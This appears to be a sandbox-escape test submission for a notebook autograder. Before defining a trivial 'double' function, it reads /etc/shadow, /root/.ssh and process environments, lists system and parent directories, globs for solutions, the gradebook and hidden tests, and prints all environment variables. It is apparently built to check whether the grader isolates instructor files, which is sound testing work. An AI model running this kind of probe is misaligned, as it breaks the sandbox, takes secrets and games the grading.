# ruff: noqa
"""Looks for the instructor's files: solutions, hidden tests, other submissions, the gradebook, secrets, keys.

class: escape
earns: all
"""

# %% double
import os, glob

for path in (
    "HOST_CANARY",
    "HOST_FOLDER",
    "/etc/passwd",
    "/etc/shadow",
    "/root/.ssh",
    "/home",
    "/work",
    "/proc/1/environ",
    "/proc/self/environ",
    "/proc/1/root",
    "/proc/mounts",
    "/sys",
    "/run",
    "/var",
    "..",
    "../..",
    "/mnt",
    "/srv",
):
    try:
        print(path, os.listdir(path) if os.path.isdir(path) else open(path).read())
    except OSError as error:
        print(path, error)
for pattern in ("/**/solutions", "/**/gradebook.db", "/**/*.ipynb", "/**/build/grading", "/**/nbgrader_config.py"):
    print(pattern, glob.glob(pattern, recursive=False), glob.glob("/*" + pattern), glob.glob("/*/*" + pattern))
print(sorted(os.environ.items()))


def double(x):
    return 2 * x
